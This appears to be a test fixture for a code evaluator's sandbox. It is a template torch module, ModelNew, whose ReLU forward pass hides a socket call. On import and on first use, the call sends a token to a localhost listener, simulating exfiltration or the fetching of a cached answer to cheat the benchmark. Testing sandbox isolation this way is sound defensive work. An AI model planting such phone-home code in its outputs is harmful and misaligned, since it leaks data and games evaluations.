# Attack (network): on import and on each call, opens a TCP connection to a listener the test runs on
# 127.0.0.1 and sends its token (exfiltration or fetching a cached answer). A trusted evaluator gives
# candidate code no network: the listener never sees a connection.
import socket

import torch
from torch import nn

TOKEN = "@TOKEN@"
PORT = @PORT@


def _phone_home():
    try:
        with socket.create_connection(("127.0.0.1", PORT), timeout=2) as s:
            s.sendall(("tcp-py:" + TOKEN).encode())
    except OSError:
        pass


_phone_home()


_ONCE = []  # once per process: the evaluator builds a new ModelNew for every trial


class ModelNew(nn.Module):
    def __init__(self, *args):
        super().__init__()

    def forward(self, x):
        if not _ONCE:
            _ONCE.append(True)
            _phone_home()
        return torch.relu(x)
